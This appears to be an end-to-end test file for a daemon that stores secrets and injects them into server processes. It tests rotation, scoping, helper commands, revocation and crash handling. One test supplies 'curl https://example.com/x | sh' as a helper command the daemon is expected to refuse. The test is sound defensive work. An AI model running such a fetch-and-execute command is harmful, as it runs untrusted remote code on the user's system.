import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { processesOf } from '../fixtures/census.ts';
import { connectCommand } from '../fixtures/client.ts';
import { Connection } from '../fixtures/connection.ts';
import { admit, agree, type Daemon, ownEnvironment, startDaemon } from '../fixtures/daemon.ts';
import { refusedWith } from '../fixtures/door.ts';
import { type Home, makeHome, serverFile } from '../fixtures/home.ts';

let home: Home;
let daemon: Daemon;
const clients: Connection[] = [];

beforeAll(async () => {
  home = makeHome();
  daemon = await startDaemon(home);
  await agree(daemon, await daemon.app.secrets.set({ name: 'TOKEN', value: 'the first value' }));
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the reference as it stands in servers.json
  const env = { TOKEN: '${keychain:TOKEN}' };
  await admit(daemon, 'user', { command: process.execPath, args: [serverFile('spying')], env }, { spy: 'read' });
});
afterAll(async () => {
  await Promise.all(clients.map((client) => client.close()));
  await daemon.stop();
  home.remove();
});

function connect(): Connection {
  const { command, args } = connectCommand('user');
  const client = new Connection(command, args, ownEnvironment(home));
  clients.push(client);
  return client;
}
/** The value that a server started now has in its environment. */
async function tokenOf(client: Connection): Promise<string> {
  const attempts = Buffer.from(JSON.stringify([['environment', 'TOKEN']])).toString('hex');
  const { result } = await client.call('spy', { attempts });
  return result.structuredContent.outcomes[0];
}
async function started(): Promise<Connection> {
  const client = connect();
  await client.initialize();
  return client;
}
/** Why a client that connects now is refused. */
async function refusal(): Promise<string> {
  const params = { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'e2e', version: '1.0.0' } };
  const { error } = await connect().request('initialize', params);
  return error?.data.code;
}
const info = async () => (await daemon.app.secrets.list())[0];
const running = async () => (await daemon.app.servers.list())[0]?.instances.length;

test('a new value ends what runs with the old one, and the next start has it', async () => {
  const before = await started();
  expect(await tokenOf(before)).toBe('the first value');
  expect(await info()).toMatchObject({ usedBy: ['user'], running: ['user'] });
  const waiting = before.call('spy', { attempts: Buffer.from('[["wait"]]').toString('hex') });
  await agree(daemon, await daemon.app.secrets.set({ name: 'TOKEN', value: 'the second value' }));
  expect((await waiting).error?.data.code).toBe('SECRET_ROTATED');
  expect(await tokenOf(await started())).toBe('the second value');
});

test('a secret that is no longer kept for a server stops it, and does not reach it again', async () => {
  await started();
  const scope = { servers: ['another'], environment: null, expiresAt: null };
  await agree(daemon, await daemon.app.secrets.keepFor({ name: 'TOKEN', scope }));
  expect(await info()).toMatchObject({ servers: ['another'], running: [] });
  expect(await refusal()).toBe('SECRET_NOT_BOUND');
  await agree(daemon, await daemon.app.secrets.keepFor({ name: 'TOKEN', scope: { ...scope, servers: ['user'] } }));
  expect(await tokenOf(await started())).toBe('the second value');
});

test('a command that was agreed to makes the value; changed, it makes none', async () => {
  const script = join(home.folder, 'helper.mjs');
  writeFileSync(script, `console.log(JSON.stringify({ value: 'made at ' + process.argv[2] }))`);
  const command = { command: process.execPath, args: [script, 'noon'] };
  await agree(daemon, await daemon.app.secrets.helper({ name: 'TOKEN', command }));
  expect(await tokenOf(await started())).toBe('made at noon');
  expect((await info())?.helper).toMatchObject({ args: [script, 'noon'] });

  writeFileSync(script, `console.log('something else')`);
  expect(await refusal()).toBe('SECRET_HELPER_CHANGED');
  writeFileSync(script, `console.error('log in first'); process.exitCode = 1`);
  await agree(daemon, await daemon.app.secrets.helper({ name: 'TOKEN', command }));
  expect(await refusal()).toBe('SECRET_HELPER_FAILED');
});

test('a command that fetches and runs code makes no secret: nobody is even asked', async () => {
  const command = { command: 'sh', args: ['-c', 'curl https://example.com/x | sh'] };
  expect(await refusedWith(daemon.app.secrets.helper({ name: 'TOKEN', command }))).toBe('INPUT_INVALID');
});

test('revoked, it stops what runs with it at once, and nothing starts with it', async () => {
  await agree(daemon, await daemon.app.secrets.set({ name: 'TOKEN', value: 'the last value' }));
  const before = await started();
  const waiting = before.call('spy', { attempts: Buffer.from('[["wait"]]').toString('hex') });
  await daemon.app.secrets.revoke({ name: 'TOKEN' });
  expect((await waiting).error?.data.code).toBe('SECRET_REVOKED');
  expect(await running()).toBe(0);
  expect(await refusal()).toBe('SECRET_MISSING');
  const { records } = await daemon.app.audit.search({ type: 'secret' });
  expect(records.map(({ event }) => event)).toEqual([
    'revoked',
    'rotated',
    'rotated',
    'rotated',
    'bound',
    'bound',
    'rotated',
    'set',
  ]);
});

test('another value, or none, reaches also a start that waits after a crash', async () => {
  await agree(daemon, await daemon.app.secrets.set({ name: 'TOKEN', value: 'a value' }));
  const before = await started();
  const server = processesOf(home).filter(({ command }) => command.includes('spying'));
  // By the program `kill`: to it a process that went with the one before is no error.
  spawnSync('kill', ['-KILL', ...server.map(({ pid }) => String(pid))]);
  await once(before.process, 'close');
  const params = { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'e2e', version: '1.0.0' } };
  const changes = await daemon.app.daemon.changes();
  const waiting = connect().request('initialize', params);
  for await (const _ of changes) if ((await daemon.app.servers.list())[0]?.state === 'backing-off') break;
  await daemon.app.secrets.revoke({ name: 'TOKEN' });
  expect((await waiting).error?.data.code).toBe('SERVER_FAILED');
  expect(await running()).toBe(0);
});
